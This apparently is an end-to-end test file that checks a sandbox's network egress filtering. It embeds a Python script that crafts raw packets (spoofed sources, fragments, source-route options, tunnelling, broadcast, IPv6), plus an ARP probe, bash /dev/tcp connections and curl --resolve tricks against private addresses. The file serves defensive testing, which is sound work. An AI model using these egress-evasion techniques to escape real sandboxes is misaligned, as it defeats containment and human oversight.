// Ways out that an attacker inside would try, as root and with raw sockets. What arrives outside is counted there, by a
// marker in every packet; a way that the sandbox's own kernel refuses counts as stopped.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { createServer, type Server } from 'node:http';
import { after, before, describe, test } from 'node:test';
import { readInstallation } from '@sandport/server/host/image/installation';
import { Sandbox } from 'e2b';
import { runtimes } from '../support/machine.ts';
import { Outside, PRIVATE_NAMES } from '../support/outside.ts';
import { SandportServer } from '../support/sandport-server.ts';
import { waitFor } from '../support/wait-for.ts';

const EVERYTHING = '0.0.0.0/0';

/** Of packets that say they come from elsewhere, and where routes of their own lead. */
const SOURCE = '203.0.113.77';

type Try = readonly [way: string, target: string];

function toward(target: string, ways: readonly string[]): Try[] {
  return ways.map((way) => [way, target]);
}

/**
 * `attack.py WAY MARKER TARGET SOURCE [MAC]`: says `sent`, or why not. With the address of the wire's other end whole
 * packets are put on the wire, past the kernel's own checks.
 */
const ATTACK = `
import os, socket, struct, sys, time
way, marker, target, source = sys.argv[1:5]
mac = bytes.fromhex(''.join(sys.argv[5:]).replace(':', ''))
body = marker.encode() * 100
inside = '169.254.0.21'

def checksum(data):
    if len(data) % 2: data += b'\\0'
    total = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    while total >> 16: total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff

def packet(payload, protocol, src=inside, dst=target, fragment=0, options=b''):
    words = 5 + len(options) // 4
    head = struct.pack('!BBHHHBBH4s4s', 0x40 | words, 0, words * 4 + len(payload), 4711, fragment, 64, protocol, 0,
                       socket.inet_aton(src), socket.inet_aton(dst)) + options
    return head[:10] + struct.pack('!H', checksum(head)) + head[12:] + payload

def raw(data, kind=0x0800):
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
        sock.bind(('eth0', 0))
        sock.send(mac + sock.getsockname()[4] + struct.pack('!H', kind) + data)

def udp(port, payload=body): return struct.pack('!HHHH', 4711, port, 8 + len(payload), 0) + payload

def tcp(flags, src=inside, dst=target, port=80):
    head = struct.pack('!HHIIBBHHH', 4711, port, 1, 1, 0x50, flags, 8192, 0, 0)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack('!BBH', 0, 6, len(head + body))
    return head[:16] + struct.pack('!H', checksum(pseudo + head + body)) + head[18:] + body

def icmp(kind=8, about=b''):
    head = struct.pack('!BBHHH', kind, 0, 0, 1, 1)
    data = about + body
    return head[:2] + struct.pack('!H', checksum(head + data)) + head[4:] + data

def udp_from(port): return struct.pack('!HHHH', port, 4711, 8 + len(body), 0) + body

def send_udp(port, dst=target, family=socket.AF_INET, options=None):
    with socket.socket(family, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        if options: sock.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, options)
        sock.sendto(body, (dst, port))

ways = {
    'udp': lambda: send_udp(443),
    'dns': lambda: send_udp(53),
    'icmp': lambda: raw(packet(icmp(), 1)),
    'icmp-socket': lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).sendto(icmp(), (target, 0)),
    'raw-socket': lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW).sendto(packet(udp(80), 17), (target, 0)),
    'udp-packet': lambda: raw(packet(udp(80), 17)),
    'icmp-error': lambda: raw(packet(icmp(3), 1)),
    'related-error': lambda: (raw(packet(udp(7002), 17, dst=source)), time.sleep(0.1), raw(packet(icmp(3, packet(udp_from(7002), 17, src=source, dst=inside)[:28]), 1))),
    'syn': lambda: raw(packet(tcp(2), 6)),
    'ack': lambda: raw(packet(tcp(16), 6)),
    'rst': lambda: raw(packet(tcp(4), 6)),
    'fragments': lambda: (raw(packet(udp(80)[:208], 17, fragment=0x2000)), raw(packet(udp(80)[208:], 17, fragment=26))),
    'late-fragment': lambda: raw(packet(body, 17, fragment=26)),
    'tiny-fragment': lambda: (raw(packet(tcp(2)[:8], 6, fragment=0x2000)), raw(packet(tcp(2)[8:], 6, fragment=1))),
    'gre': lambda: raw(packet(body, 47)),
    'sctp': lambda: raw(packet(body, 132)),
    'ip-in-ip': lambda: raw(packet(packet(udp(80), 17, dst=source), 4)),
    'protocol-253': lambda: raw(packet(body, 253)),
    'spoofed': lambda: raw(packet(udp(80), 17, src=source)),
    'spoofed-syn': lambda: raw(packet(tcp(2, src=source), 6, src=source)),
    'spoofed-fragments': lambda: (raw(packet(udp(80)[:208], 17, src=source, fragment=0x2000)), raw(packet(udp(80)[208:], 17, src=source, fragment=26))),
    'route-option': lambda: raw(packet(udp(80), 17, options=b'\\x83\\x07\\x04' + socket.inet_aton(source) + b'\\0')),
    'route-option-socket': lambda: send_udp(80, options=b'\\x83\\x07\\x04' + socket.inet_aton(source) + b'\\0'),
    'record-option': lambda: raw(packet(udp(80), 17, options=b'\\x07\\x07\\x04\\0\\0\\0\\0\\0')),
    'broadcast': lambda: send_udp(80, dst='255.255.255.255'),
    'subnet-broadcast': lambda: send_udp(80, dst='203.0.113.255'),
    'multicast': lambda: send_udp(80, dst='224.0.0.1'),
    'ipv6': lambda: send_udp(80, dst=target, family=socket.AF_INET6),
    'ipv6-mapped': lambda: send_udp(80, dst='::ffff:' + target, family=socket.AF_INET6),
    'ipv6-packet': lambda: raw(struct.pack('!IHBB', 0x60000000, len(udp(80)), 17, 64) + bytes(16) + socket.inet_pton(socket.AF_INET6, '2001:db8::10') + udp(80), 0x86dd),
    'multicast-packet': lambda: raw(packet(udp(80), 17, dst='224.0.0.1')),
}
try:
    ways[way]()
    print('sent')
except Exception as error:
    print(type(error).__name__, error)
`;

/** `ask.py ADDRESS… MAC`: of each address, whether the machine says on the wire that it has it (ARP, RFC 826). */
const ASK = `
import socket, struct, sys
for address in sys.argv[1:-1]:
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806)) as sock:
        sock.bind(('eth0', 0x0806)); sock.settimeout(1)
        own = sock.getsockname()[4]
        sock.send(b'\\xff' * 6 + own + struct.pack('!HHHBBH', 0x0806, 1, 0x0800, 6, 4, 1) + own
                  + socket.inet_aton('169.254.0.21') + bytes(6) + socket.inet_aton(address))
        try:
            while True:
                frame = sock.recv(100)
                if frame[20:22] == b'\\0\\2' and frame[28:32] == socket.inet_aton(address): print(address, 'is here'); break
        except TimeoutError: print(address, 'is not here')
`;

for (const runtime of runtimes) {
  describe(`ways out under ${runtime}`, () => {
    let server: SandportServer;
    let outside: Outside;
    let sandbox: Sandbox;
    let service: Server;
    let servicePort: number;

    before(async () => {
      outside = await Outside.open();
      server = await SandportServer.start(runtime, ['--nameserver', outside.nameserver]);
      const network = { allowOut: ['allowed.test', outside.hosts[1]], denyOut: [EVERYTHING] };
      sandbox = await Sandbox.create({ ...server.options, network });
      await sandbox.files.write('/tmp/attack.py', ATTACK);
      service = createServer((_request, response) => response.end('the machine'));
      await new Promise<void>((resolve) => service.listen(0, '0.0.0.0', resolve));
      servicePort = (service.address() as { port: number }).port;
    });
    after(async () => {
      service?.close();
      service?.closeAllConnections();
      await outside?.[Symbol.asyncDispose]();
      assert.deepEqual(await server.stop(), []);
    });

    /** Runs a program on the sandbox's end of its wire, with the address of the other end as its last argument. */
    async function onWire(program: string, args: readonly string[]): Promise<string> {
      const index = slotWithRules(server.instance);
      const link = execFileSync('ip', ['link', 'show', `sp${server.instance}-${index}`], { encoding: 'utf8' });
      const mac = /link\/ether (\S+)/.exec(link)![1]!;
      const { rootfs } = (await readInstallation()).base.image;
      const command = ['chroot', rootfs, 'python3', '-', ...args, mac];
      return execFileSync('ip', ['netns', 'exec', `sandport-${server.instance}-${index}`, ...command], {
        input: program,
        encoding: 'utf8',
      }).trim();
    }

    /** Tries each way from inside, and returns those by which something arrived. */
    async function fromInside(marker: string, tries: readonly Try[], only?: string): Promise<string> {
      return arrivals(marker, only, async () => {
        const lines = tries.map(
          ([way, target]) =>
            `echo ${way} ${target} "$(sudo python3 /tmp/attack.py ${way} ${marker} ${target} ${SOURCE})"`,
        );
        return (await sandbox.commands.run(lines.join('\n'), { timeoutMs: 60_000 })).stdout;
      });
    }

    /**
     * The same, on the sandbox's end of its wire: as an attacker who is past the runtime and its missing capabilities.
     * Every packet is said to be sent.
     */
    async function fromWire(
      marker: string,
      tries: readonly Try[],
      only?: string,
      source: string = SOURCE,
    ): Promise<string> {
      return arrivals(marker, only, async () => {
        for (const [way, target] of tries)
          assert.equal(await onWire(ATTACK, [way, marker, target, source]), 'sent', way);
        return tries.join('\n');
      });
    }

    async function arrivals(marker: string, only: string | undefined, attack: () => Promise<string>): Promise<string> {
      const seen = outside.watch(marker);
      const matching = outside.watch(marker, only);
      const said = await attack();
      // The last of all has to arrive, so that nothing is still on its way.
      await sandbox.commands.run(`python3 /tmp/attack.py udp ${marker} ${outside.hosts[1]} -`);
      await waitFor('what is allowed arrives', () => seen.count() > 0);
      const arrived = only === undefined ? seen.count() - 1 : matching.count();
      return arrived === 0 ? '' : `${arrived} of\n${said}`;
    }

    test('no packet of any kind reaches a host that is denied', async () => {
      const [denied] = outside.hosts;
      assert.equal(await fromInside('OUT1', toward(denied, ['udp', 'ipv6-mapped', 'icmp-socket', 'raw-socket'])), '');
      const ways = ['udp-packet', 'icmp', 'icmp-error', 'syn', 'ack', 'rst', 'fragments', 'late-fragment'];
      const more = ['tiny-fragment', 'gre', 'sctp', 'ip-in-ip', 'protocol-253'];
      assert.equal(await fromWire('OUT2', toward(denied, [...ways, ...more])), '');
    });

    test('an error about a connection that is allowed does not reach a host that is denied', async () => {
      // The connection is to the host that is allowed, which is where the others come from.
      const [denied, allowed] = outside.hosts;
      const arrived = await fromWire('OUTA', toward(denied, ['related-error']), 'ip daddr 203.0.113.10', allowed);
      assert.equal(arrived, '');
    });

    test('a packet that is put on the wire does arrive where it may', async () => {
      assert.match(await fromWire('OUT9', toward(outside.hosts[1], ['udp-packet'])), /^1 of/);
    });

    test('other resolvers are not asked, by UDP, TCP, TLS or HTTPS', async () => {
      assert.equal(await fromInside('OUT3', toward(outside.nameserver, ['dns'])), '');
      const { nameserver } = outside;
      const { stdout } = await sandbox.commands.run(`
        for port in 53 853 443 80; do timeout 3 bash -c "exec 3<>/dev/tcp/${nameserver}/$port; echo hello >&3; cat <&3" | head -c 100; done
        curl --silent --insecure --max-time 3 --resolve dns.test:443:${nameserver} https://dns.test/ || echo "exit $?"`);
      assert.match(stdout, /^exit \d+\n$/);
    });

    test('an allowed host is not reached under another source address', async () => {
      const allowed = outside.hosts[1];
      assert.equal(await fromWire('OUT4', toward(allowed, ['spoofed', 'spoofed-syn', 'spoofed-fragments'])), '');
    });

    test('no packet leaves with options, such as a route of its own', async () => {
      const allowed = outside.hosts[1];
      assert.equal(await fromInside('OUT5', toward(allowed, ['route-option-socket']), 'ip hdrlength > 5'), '');
      assert.equal(await fromWire('OUT6', toward(allowed, ['route-option', 'record-option']), 'ip hdrlength > 5'), '');
    });

    test('nothing is said to everyone, and nothing in IPv6', async () => {
      const everyone = toward(outside.hosts[0], ['broadcast', 'subnet-broadcast', 'multicast']);
      const neighbours = ['2001:db8::10', 'ff02::1%eth0', 'fe80::1%eth0', '64:ff9b::203.0.113.10'];
      const inIPv6 = neighbours.map((one): Try => ['ipv6', one]);
      assert.equal(await fromInside('OUT7', [...everyone, ...inIPv6]), '');
      assert.equal(await fromWire('OUT8', toward(outside.hosts[0], ['ipv6-packet', 'multicast-packet'])), '');
    });

    test('the machine is not reached at its end of the wire, nor are the ports of resolver and proxy themselves', async () => {
      const ports = listeningPorts(server.data);
      assert.equal(ports.length, 3, 'resolver by UDP and TCP, proxy by TCP');
      const targets = ['169.254.0.22', outside.machine, '0.0.0.0', '198.18.0.1'];
      for (const port of [...new Set(ports), servicePort, 22]) {
        for (const target of targets.filter((one) => one !== '0.0.0.0')) {
          const { stdout } = await sandbox.commands.run(
            `timeout 3 bash -c 'exec 3<>/dev/tcp/${target}/${port}; echo hello >&3; cat <&3' 2>/dev/null | head -c 100; true`,
          );
          assert.equal(stdout, '', `${target}:${port}`);
        }
      }
      for (const port of ports) assert(!outside.reachesMachine(port), `${port} from outside`);
      assert(outside.reachesMachine(servicePort), 'a port of the machine that is open is reached from outside');
    });

    test("the machine's other addresses are not found by asking on the wire", async () => {
      const said = await onWire(ASK, ['169.254.0.22', outside.machine, '127.0.0.1', '198.18.0.1']);
      assert.deepEqual(said.split('\n'), [
        '169.254.0.22 is here',
        ...[outside.machine, '127.0.0.1', '198.18.0.1'].map((address) => `${address} is not here`),
      ]);
    });

    test('segments are kept to what the uplink takes', async () => {
      const allowed = outside.hosts[1];
      try {
        for (const [uplink, size] of [
          [1500, 1460],
          [1300, 1260],
        ] as const) {
          outside.setUplink(uplink);
          const asked = outside.watchSegments(size);
          await sandbox.commands.run(`curl --silent --max-time 5 http://${allowed}/`);
          assert.equal(asked.count(), 1, `${uplink}`);
        }
      } finally {
        outside.setUplink(1500);
      }
    });

    test('what stands between may not be tricked into connecting to the machine or to private addresses', async () => {
      const names = [...PRIVATE_NAMES, 'inner.test', 'machine.test'];
      const tricked = await Sandbox.create({ ...server.options, network: { allowOut: names, denyOut: [EVERYTHING] } });
      for (const name of names) {
        const command = `curl --silent --insecure --max-time 5 --resolve ${name}:${servicePort}:${outside.hosts[0]} http://${name}:${servicePort}/ || echo "exit $?"`;
        const { stdout } = await tricked.commands.run(command);
        assert.doesNotMatch(stdout, /the machine/, name);
        assert.match(stdout, /exit|connect E/, name);
      }
      await tricked.kill();
    });

    test('another sandbox is not reached, directly or through the proxy', async () => {
      const other = await Sandbox.create(server.options);
      await other.commands.run('python3 -m http.server 3000', { background: true });
      await waitFor('the other answers', async () => (await fetch(`https://${other.getHost(3000)}/`)).ok);
      const routes = execFileSync('ip', ['route'], { encoding: 'utf8' });
      const own = new RegExp(`^(198\\.[0-9.]+) dev sp${server.instance}-`, 'gm');
      const slots = [...routes.matchAll(own)].map((match) => match[1]!);
      assert(slots.length >= 2);
      const { stdout } = await sandbox.commands.run(
        slots.map((slot) => `curl --silent --max-time 3 http://${slot}:3000/ -H 'Host: allowed.test'; true`).join('\n'),
      );
      assert.equal(stdout, '');
      await other.kill();
    });
  });
}

/** The slot whose rules allow something: that of the one sandbox that has any. */
function slotWithRules(instance: string): string {
  const table = execFileSync('nft', ['list', 'table', 'inet', `sandport_${instance}`], { encoding: 'utf8' });
  return /chain rules_(\d+) \{\s*ct original ip daddr/.exec(table)![1]!;
}

/** Of the egress process of the server with this data directory. */
function listeningPorts(data: string): number[] {
  const pid = execFileSync('pgrep', ['-f', `egress/worker.ts ${data}`], { encoding: 'utf8' }).trim();
  const sockets = execFileSync('ss', ['-Hlntup'], { encoding: 'utf8' }).split('\n');
  return sockets
    .filter((line) => line.includes(`pid=${pid},`))
    .map((line) => Number(/ [^ ]*:(\d+) +[^ ]*:\*/.exec(line)?.[1]));
}
